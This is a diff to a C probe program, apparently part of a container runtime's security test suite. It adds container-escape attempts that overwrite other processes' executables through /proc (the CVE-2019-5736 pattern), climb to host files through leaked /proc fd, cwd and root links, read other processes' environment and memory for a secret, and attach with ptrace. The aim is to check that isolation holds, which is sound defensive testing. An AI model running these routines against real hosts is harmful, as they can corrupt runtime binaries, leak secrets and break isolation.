@@ -10,6 +10,11 @@
  *   probe read PATH            read up to 64 KiB of PATH   -> "ops" entry
  *   probe stat PATH            lstat PATH                  -> "ops" entry
  *   probe ls PATH              list a directory            -> "ops" entry
+ *   probe reopen-write PATH WAIT
+ *                              open PATH with O_PATH, print "opened <errno|OK>",
+ *                              wait until file WAIT exists, then reopen the fd
+ *                              through /proc/self/fd for writing and write to it
+ *                              (the CVE-2019-5736 pattern)  -> "ops" entry
  *   probe sleep N              (print what was gathered, then) sleep N seconds
  *   probe exit N               (print, then) exit with status N
  *   probe kill-self SIG        (print, then) kill itself with SIG
@@ -25,6 +30,16 @@
  *   probe count PATH           write 1, 2, 3... to PATH every 10 ms, forever
  *   probe hugetlb N            a child touches N 2 MiB huge pages -> "hugetlb"
  *   probe dread PATH           read PATH with O_DIRECT     -> "dread": bytes, ms
+ *
+ * Escape attempts for tests/integration/security:
+ *   probe mknod PATH b|c MAJ MIN  mknod(2) a device node     -> "ops" entry
+ *   probe try SYSCALL          unshare-user, unshare-mount, mount, keyctl,
+ *                              sethostname                 -> "ops" entry
+ *   probe reach HOSTPATH       climb to the host file HOSTPATH from "." and
+ *                              every /proc/self/{cwd,root,fd/N} -> "ops" entry
+ *   probe watch SECS MARKER SECRET  attack every other process of the pid
+ *                              namespace as it appears, until SECS pass or
+ *                              /tmp/watch-stop exists      -> "watch" (do_watch)
  *
  * Arguments are processed left to right, so `probe ids write /x exit 3`
  * prints {"ids":...,"ops":[...]} and exits 3.  Words after `--` are ignored
@@ -914,6 +929,596 @@ static void op_ls(const char *path)
         first_member = saved_first;
 }
 
+/* ---- escape attempts (tests/integration/security) ------------------------- */
+
+/* Only this block needs them; kept here so the block stands on its own. */
+#include <sys/mount.h>
+#include <sys/ptrace.h>
+#include <sys/wait.h>
+
+static void ensure_obj(void); /* driver, below */
+
+/* Exits 125 unless `n` arguments follow argv[i] (as need_arg, for several). */
+static void escape_args(int i, int argc, int n, const char *usage)
+{
+        if (i + n >= argc) {
+                fprintf(stderr, "probe: usage: %s\n", usage);
+                exit(125);
+        }
+}
+
+static void op_mknod(const char *path, const char *type, const char *maj, const char *min)
+{
+        size_t start = out_len;
+        int saved_first = first_member;
+        op_begin("mknod", path);
+        mode_t kind = type[0] == 'b' ? S_IFBLK : S_IFCHR;
+        int r = mknod(path, kind | 0600, makedev(atoi(maj), atoi(min)));
+        op_result(r == 0, errno);
+        op_end(start);
+        first_member = saved_first;
+}
+
+/* One system call that a seccomp profile or the capability set may deny. */
+static long try_syscall(const char *name)
+{
+        if (strcmp(name, "unshare-user") == 0)
+                return unshare(CLONE_NEWUSER);
+        if (strcmp(name, "unshare-mount") == 0)
+                return unshare(CLONE_NEWNS);
+        if (strcmp(name, "mount") == 0)
+                return mount("none", "/tmp", "tmpfs", 0, "size=1m");
+        if (strcmp(name, "keyctl") == 0) /* KEYCTL_GET_KEYRING_ID of the session keyring */
+                return syscall(SYS_keyctl, 0, -3, 1);
+        if (strcmp(name, "sethostname") == 0)
+                return sethostname("probe-sethostname", 17);
+        errno = EINVAL;
+        return -1;
+}
+
+static void op_try(const char *name)
+{
+        size_t start = out_len;
+        int saved_first = first_member;
+        op_begin("try", name);
+        long r = try_syscall(name);
+        op_result(r >= 0, errno);
+        op_end(start);
+        first_member = saved_first;
+}
+
+/* "../../…/<path without its leading />": from any directory of the host's
+ * tree this climbs to the host's root, then down to `path`. */
+static char *climb_to(const char *path)
+{
+        static char rel[8192];
+        rel[0] = '\0';
+        for (int i = 0; i < 64; i++)
+                strcat(rel, "../");
+        while (*path == '/')
+                path++;
+        strncat(rel, path, sizeof(rel) - strlen(rel) - 1);
+        return rel;
+}
+
+/* If `dirfd` leads to `marker` on the host, add {"via","target","data"} and return 1. */
+static int reach_from(int dirfd, const char *via, const char *marker)
+{
+        int fd = openat(dirfd, climb_to(marker), O_RDONLY | O_CLOEXEC);
+        if (fd < 0)
+                return 0;
+        char data[256];
+        ssize_t n = read(fd, data, sizeof(data) - 1);
+        close(fd);
+        data[n > 0 ? n : 0] = '\0';
+        char target[4096];
+        ssize_t t = dirfd == AT_FDCWD ? -1 : readlink(via, target, sizeof(target) - 1);
+        target[t > 0 ? t : 0] = '\0';
+        elem();
+        open_obj();
+        key("via");
+        put_str(via);
+        key("target");
+        put_str(target);
+        key("data");
+        put_str(data);
+        close_obj();
+        return 1;
+}
+
+/* Try to reach `marker` (a host path) from every directory that the magic
+ * links of /proc/<pid>/{cwd,root,fd/N} lead to; "." too for ourselves.
+ * Adds "escapes":[...] and "dirs": how many links opened as directories. */
+static void reach_via_proc(const char *pid, const char *marker)
+{
+        char path[512];
+        int dirs = 0;
+        key("escapes");
+        open_arr();
+        if (strcmp(pid, "self") == 0)
+                reach_from(AT_FDCWD, ".", marker);
+        static const char *const links[] = {"cwd", "root"};
+        for (size_t i = 0; i < 2; i++) {
+                snprintf(path, sizeof(path), "/proc/%s/%s", pid, links[i]);
+                int d = open(path, O_PATH | O_DIRECTORY | O_CLOEXEC);
+                if (d >= 0) {
+                        dirs++;
+                        reach_from(d, path, marker);
+                        close(d);
+                }
+        }
+        snprintf(path, sizeof(path), "/proc/%s/fd", pid);
+        DIR *dir = opendir(path);
+        struct dirent *e;
+        while (dir && (e = readdir(dir)) != NULL) {
+                if (e->d_name[0] == '.' || atoi(e->d_name) == dirfd(dir))
+                        continue;
+                snprintf(path, sizeof(path), "/proc/%s/fd/%s", pid, e->d_name);
+                int d = open(path, O_PATH | O_DIRECTORY | O_CLOEXEC);
+                if (d < 0)
+                        continue;
+                dirs++;
+                reach_from(d, path, marker);
+                close(d);
+        }
+        if (dir)
+                closedir(dir);
+        close_arr();
+        key("dirs");
+        putf("%d", dirs);
+}
+
+static void op_reach(const char *marker)
+{
+        size_t start = out_len;
+        int saved_first = first_member;
+        op_begin("reach", marker);
+        int fd = open(marker, O_RDONLY | O_CLOEXEC);
+        int e = errno;
+        if (fd >= 0)
+                close(fd);
+        key("direct");
+        put_str(fd >= 0 ? "ok" : errno_name(e));
+        reach_via_proc("self", marker);
+        op_end(start);
+        first_member = saved_first;
+}
+
+/* ---- watch: attack every process that shows up in our pid namespace ---- */
+
+#define WATCH_PROCS 2048
+#define WATCH_HELD 64
+#define WATCH_STOP "/tmp/watch-stop"
+
+static struct {
+        pid_t pid;
+        char comm[32];
+} watch_seen[WATCH_PROCS];
+static int watch_n_seen;
+
+/* /proc/<pid>/exe files held open O_PATH, to be reopened for writing later. */
+static struct {
+        int fd;
+        dev_t dev;
+        ino_t ino;
+        char exe[256];
+        char result[32];
+        int attempts;
+} watch_held[WATCH_HELD];
+static int watch_n_held;
+
+/* Our own binaries: writing them proves nothing and breaks the bundle. */
+static struct stat watch_own[3];
+static int watch_n_own;
+
+static const char *watch_marker, *watch_secret;
+
+static int same_file(const struct stat *a, dev_t dev, ino_t ino)
+{
+        return a->st_dev == dev && a->st_ino == ino;
+}
+
+static int is_own(const struct stat *st)
+{
+        for (int i = 0; i < watch_n_own; i++)
+                if (same_file(&watch_own[i], st->st_dev, st->st_ino))
+                        return 1;
+        return 0;
+}
+
+/* Append a line to an exe reopened for writing: "WROTE" or the errno. */
+static const char *write_exe(const char *path)
+{
+        int fd = open(path, O_WRONLY | O_APPEND | O_CLOEXEC);
+        if (fd < 0)
+                return errno_name(errno);
+        static const char line[] = "\n# cell escape suite: written from inside a container\n";
+        ssize_t n = write(fd, line, sizeof(line) - 1);
+        int e = errno;
+        close(fd);
+        return n > 0 ? "WROTE" : errno_name(e);
+}
+
+static void hold_exe(int fd, const struct stat *st, const char *exe)
+{
+        for (int i = 0; i < watch_n_held; i++) {
+                if (watch_held[i].dev == st->st_dev && watch_held[i].ino == st->st_ino) {
+                        close(fd);
+                        return;
+                }
+        }
+        if (watch_n_held == WATCH_HELD) {
+                close(fd);
+                return;
+        }
+        watch_held[watch_n_held].fd = fd;
+        watch_held[watch_n_held].dev = st->st_dev;
+        watch_held[watch_n_held].ino = st->st_ino;
+        snprintf(watch_held[watch_n_held].exe, sizeof(watch_held[0].exe), "%s", exe);
+        snprintf(watch_held[watch_n_held].result, sizeof(watch_held[0].result), "untried");
+        watch_n_held++;
+}
+
+/* CVE-2019-5736: open the process's executable, write it now, keep it for later. */
+static void attack_exe(pid_t pid)
+{
+        char path[64], exe[256];
+        snprintf(path, sizeof(path), "/proc/%d/exe", pid);
+        ssize_t n = readlink(path, exe, sizeof(exe) - 1);
+        int e = errno;
+        exe[n > 0 ? n : 0] = '\0';
+        key("exe");
+        put_str(n > 0 ? exe : errno_name(e));
+        int fd = open(path, O_PATH | O_CLOEXEC);
+        key("exe_open");
+        put_str(fd >= 0 ? "ok" : errno_name(errno));
+        if (fd < 0)
+                return;
+        struct stat st;
+        fstat(fd, &st);
+        key("exe_dev");
+        putf("[%u,%u]", major(st.st_dev), minor(st.st_dev));
+        key("exe_ino");
+        putf("%llu", (unsigned long long)st.st_ino);
+        key("exe_write");
+        if (is_own(&st)) {
+                put_str("own");
+                close(fd);
+                return;
+        }
+        put_str(write_exe(path));
+        hold_exe(fd, &st, exe);
+}
+
+/* Once every runtime process is gone the binary is no longer busy: retry. */
+static void rewrite_held(void)
+{
+        for (int i = 0; i < watch_n_held; i++) {
+                if (strcmp(watch_held[i].result, "WROTE") == 0)
+                        continue;
+                char path[64];
+                snprintf(path, sizeof(path), "/proc/self/fd/%d", watch_held[i].fd);
+                snprintf(watch_held[i].result, sizeof(watch_held[i].result), "%s", write_exe(path));
+                watch_held[i].attempts++;
+        }
+}
+
+/* "leak" if the process's environment (or its memory there) holds the secret. */
+static const char *read_environ(pid_t pid)
+{
+        char path[64];
+        snprintf(path, sizeof(path), "/proc/%d/environ", pid);
+        size_t len = 0;
+        char *s = read_file(path, 1 << 16, &len);
+        if (!s)
+                return errno_name(errno);
+        int leak = memmem(s, len, watch_secret, strlen(watch_secret)) != NULL;
+        free(s);
+        return leak ? "leak" : "ok";
+}
+
+/* env_start and env_end: fields 50 and 51 of /proc/<pid>/stat. */
+static int env_range(pid_t pid, unsigned long *lo, unsigned long *hi)
+{
+        char path[64];
+        snprintf(path, sizeof(path), "/proc/%d/stat", pid);
+        char *s = read_file(path, 4096, NULL);
+        char *p = s ? strrchr(s, ')') : NULL;
+        int field = 2, ok = 0;
+        for (char *tok = p ? strtok(p + 1, " ") : NULL; tok; tok = strtok(NULL, " ")) {
+                field++;
+                if (field == 50)
+                        *lo = strtoul(tok, NULL, 10);
+                if (field == 51) {
+                        *hi = strtoul(tok, NULL, 10);
+                        ok = *hi > *lo;
+                        break;
+                }
+        }
+        free(s);
+        return ok;
+}
+
+static const char *read_mem(pid_t pid)
+{
+        char path[64];
+        snprintf(path, sizeof(path), "/proc/%d/mem", pid);
+        int fd = open(path, O_RDONLY | O_CLOEXEC);
+        if (fd < 0)
+                return errno_name(errno);
+        unsigned long lo = 0, hi = 0;
+        const char *res = "ok";
+        if (env_range(pid, &lo, &hi)) {
+                size_t len = hi - lo > 65536 ? 65536 : hi - lo;
+                char *buf = malloc(len);
+                ssize_t n = buf ? pread(fd, buf, len, (off_t)lo) : -1;
+                if (n > 0 && memmem(buf, (size_t)n, watch_secret, strlen(watch_secret)))
+                        res = "leak";
+                free(buf);
+        }
+        close(fd);
+        return res;
+}
+
+static void put_status_field(pid_t pid, const char *field)
+{
+        char path[64];
+        snprintf(path, sizeof(path), "/proc/%d/status", pid);
+        char *s = read_file(path, 65536, NULL);
+        char *line = s ? strstr(s, field) : NULL;
+        key(field);
+        if (line) {
+                line += strlen(field) + 1;
+                line[strcspn(line, "\n")] = '\0';
+                put_str(line + strspn(line, " \t"));
+        } else {
+                puts_raw("null");
+        }
+        free(s);
+}
+
+/* PTRACE_SEIZE needs the same permission as PTRACE_ATTACH (PTRACE_MODE_ATTACH)
+ * but queues no SIGSTOP, so a tracee we fail to see stopped is not left
+ * stopped when we exit.  While it is stopped, record what we got hold of. */
+static void attack_ptrace(pid_t pid)
+{
+        key("ptrace");
+        if (ptrace(PTRACE_SEIZE, pid, 0, 0) < 0) {
+                put_str(errno_name(errno));
+                return;
+        }
+        put_str("ok");
+        ptrace(PTRACE_INTERRUPT, pid, 0, 0);
+        int status = 0, stopped = 0;
+        for (int i = 0; i < 2000 && !stopped; i++) {
+                pid_t r = waitpid(pid, &status, __WALL | WNOHANG);
+                if (r < 0 || (r == pid && !WIFSTOPPED(status)))
+                        break;
+                stopped = r == pid;
+                if (!stopped)
+                        usleep(500);
+        }
+        key("stopped");
+        if (!stopped) {
+                puts_raw("null");
+                ptrace(PTRACE_DETACH, pid, 0, 0);
+                return;
+        }
+        open_obj();
+        char path[64], buf[256];
+        snprintf(path, sizeof(path), "/proc/%d/comm", pid);
+        char *comm = read_file(path, 64, NULL);
+        if (comm)
+                comm[strcspn(comm, "\n")] = '\0';
+        key("comm");
+        put_str(comm);
+        free(comm);
+        put_status_field(pid, "CapEff");
+        put_status_field(pid, "Uid");
+        snprintf(path, sizeof(path), "/proc/%d/exe", pid);
+        ssize_t n = readlink(path, buf, sizeof(buf) - 1);
+        buf[n > 0 ? n : 0] = '\0';
+        key("exe");
+        put_str(buf);
+        struct stat st;
+        key("exe_dev");
+        if (stat(path, &st) == 0)
+                putf("[%u,%u]", major(st.st_dev), minor(st.st_dev));
+        else
+                puts_raw("null");
+        key("exe_ino");
+        putf("%llu", stat(path, &st) == 0 ? (unsigned long long)st.st_ino : 0ULL);
+        close_obj();
+        ptrace(PTRACE_DETACH, pid, 0, 0);
+}
+
+static void watch_attack(pid_t pid, const char *comm)
+{
+        char pidstr[16];
+        snprintf(pidstr, sizeof(pidstr), "%d", pid);
+        elem();
+        open_obj();
+        key("pid");
+        putf("%d", pid);
+        key("comm");
+        put_str(comm);
+        attack_exe(pid);
+        key("environ");
+        put_str(read_environ(pid));
+        key("mem");
+        put_str(read_mem(pid));
+        reach_via_proc(pidstr, watch_marker);
+        attack_ptrace(pid);
+        close_obj();
+}
+
+/* First sight of (pid, comm): a runtime process that execs shows up twice. */
+static int watch_new(pid_t pid, const char *comm)
+{
+        for (int i = 0; i < watch_n_seen; i++)
+                if (watch_seen[i].pid == pid && strcmp(watch_seen[i].comm, comm) == 0)
+                        return 0;
+        if (watch_n_seen == WATCH_PROCS)
+                return 0;
+        watch_seen[watch_n_seen].pid = pid;
+        snprintf(watch_seen[watch_n_seen].comm, sizeof(watch_seen[0].comm), "%s", comm);
+        watch_n_seen++;
+        return 1;
+}
+
+static void watch_scan(void)
+{
+        DIR *d = opendir("/proc");
+        struct dirent *e;
+        while (d && (e = readdir(d)) != NULL) {
+                pid_t pid = atoi(e->d_name);
+                if (pid <= 0 || pid == getpid())
+                        continue;
+                char path[64];
+                snprintf(path, sizeof(path), "/proc/%d/comm", pid);
+                char *comm = read_file(path, 64, NULL);
+                if (!comm)
+                        continue;
+                comm[strcspn(comm, "\n")] = '\0';
+                if (watch_new(pid, comm))
+                        watch_attack(pid, comm);
+                free(comm);
+        }
+        if (d)
+                closedir(d);
+}
+
+static void own_binaries(void)
+{
+        static const char *const paths[] = {"/proc/self/exe", "/bin/busybox", "/probe"};
+        for (size_t i = 0; i < 3; i++)
+                if (stat(paths[i], &watch_own[watch_n_own]) == 0)
+                        watch_n_own++;
+}
+
+/*
+ * probe watch SECONDS MARKER SECRET: print "watching\n", then for SECONDS
+ * attack every other process of our pid namespace as it appears (each
+ * (pid, comm) once): its executable (open O_PATH, write it now, and keep
+ * trying to reopen it for writing until the end, CVE-2019-5736), its
+ * environ and mem (is SECRET there?), its cwd/root/fd links (do they lead
+ * to the host file MARKER? CVE-2024-21626) and PTRACE_SEIZE.  Ends early,
+ * after one last pass, once the file WATCH_STOP exists.
+ */
+static void do_watch(double secs, const char *marker, const char *secret)
+{
+        watch_marker = marker;
+        watch_secret = secret;
+        own_binaries();
+        write_all(1, "watching\n", 9);
+        ensure_obj();
+        key("watch");
+        open_obj();
+        key("procs");
+        open_arr();
+        struct timespec t0, t;
+        clock_gettime(CLOCK_MONOTONIC, &t0);
+        long scans = 0;
+        int stop = 0;
+        do {
+                stop = access(WATCH_STOP, F_OK) == 0; /* then one last pass */
+                watch_scan();
+                rewrite_held();
+                scans++;
+                clock_gettime(CLOCK_MONOTONIC, &t);
+        } while (!stop &&
+                 (double)(t.tv_sec - t0.tv_sec) + (double)(t.tv_nsec - t0.tv_nsec) / 1e9 < secs);
+        close_arr();
+        key("scans");
+        putf("%ld", scans);
+        key("held");
+        open_arr();
+        for (int i = 0; i < watch_n_held; i++) {
+                elem();
+                open_obj();
+                key("exe");
+                put_str(watch_held[i].exe);
+                key("dev");
+                putf("[%u,%u]", major(watch_held[i].dev), minor(watch_held[i].dev));
+                key("ino");
+                putf("%llu", (unsigned long long)watch_held[i].ino);
+                key("rewrite");
+                put_str(watch_held[i].result);
+                key("attempts");
+                putf("%d", watch_held[i].attempts);
+                close_obj();
+                close(watch_held[i].fd);
+        }
+        close_arr();
+        close_obj();
+}
+
+/* The words of this block; -1 if `argv[i]` is none of them. */
+static int run_escape_word(int argc, char **argv, int i)
+{
+        const char *w = argv[i];
+        if (strcmp(w, "mknod") == 0) {
+                escape_args(i, argc, 4, "mknod PATH b|c MAJOR MINOR");
+                ensure_obj();
+                op_mknod(argv[i + 1], argv[i + 2], argv[i + 3], argv[i + 4]);
+                return i + 4;
+        }
+        if (strcmp(w, "try") == 0 || strcmp(w, "reach") == 0) {
+                escape_args(i, argc, 1, w[0] == 't' ? "try SYSCALL" : "reach HOSTPATH");
+                ensure_obj();
+                if (w[0] == 't')
+                        op_try(argv[i + 1]);
+                else
+                        op_reach(argv[i + 1]);
+                return i + 1;
+        }
+        if (strcmp(w, "watch") == 0) {
+                escape_args(i, argc, 3, "watch SECONDS MARKER SECRET");
+                do_watch(atof(argv[i + 1]), argv[i + 2], argv[i + 3]);
+                return i + 3;
+        }
+        return -1;
+}
+
+static void op_reopen_write(const char *path, const char *wait_path)
+{
+        size_t start = out_len;
+        int saved_first = first_member;
+        op_begin("reopen-write", path);
+        int fd = open(path, O_PATH | O_CLOEXEC);
+        int e = errno;
+        char line[64];
+        int n = snprintf(line, sizeof(line), "opened %s\n", fd >= 0 ? "OK" : errno_name(e));
+        write_all(1, line, (size_t)n);
+        if (fd < 0) {
+                key("stage");
+                put_str("open");
+                op_result(0, e);
+                op_end(start);
+                first_member = saved_first;
+                return;
+        }
+        for (int i = 0; i < 3000 && access(wait_path, F_OK) != 0; i++)
+                usleep(10000);
+        char proc[64];
+        snprintf(proc, sizeof(proc), "/proc/self/fd/%d", fd);
+        int wfd = open(proc, O_WRONLY | O_CLOEXEC);
+        e = errno;
+        int ok = wfd >= 0;
+        if (ok && write(wfd, "probe\n", 6) < 0) {
+                ok = 0;
+                e = errno;
+        }
+        if (wfd >= 0)
+                close(wfd);
+        close(fd);
+        key("stage");
+        put_str("reopen");
+        op_result(ok, e);
+        op_end(start);
+        first_member = saved_first;
+}
+
 /* ---- driver -------------------------------------------------------------- */
 
 static int obj_open;
@@ -1225,6 +1830,16 @@ static int run_word(int argc, char **argv, int i)
                 else
                         op_ls(argv[i]);
                 return i;
+        }
+        int escape = run_escape_word(argc, argv, i);
+        if (escape >= 0)
+                return escape;
+        if (strcmp(w, "reopen-write") == 0) {
+                i = need_arg(i, argc, w);
+                int j = need_arg(i, argc, w);
+                ensure_obj();
+                op_reopen_write(argv[i], argv[j]);
+                return j;
         }
         if (strcmp(w, "sleep") == 0) {
                 i = need_arg(i, argc, w);
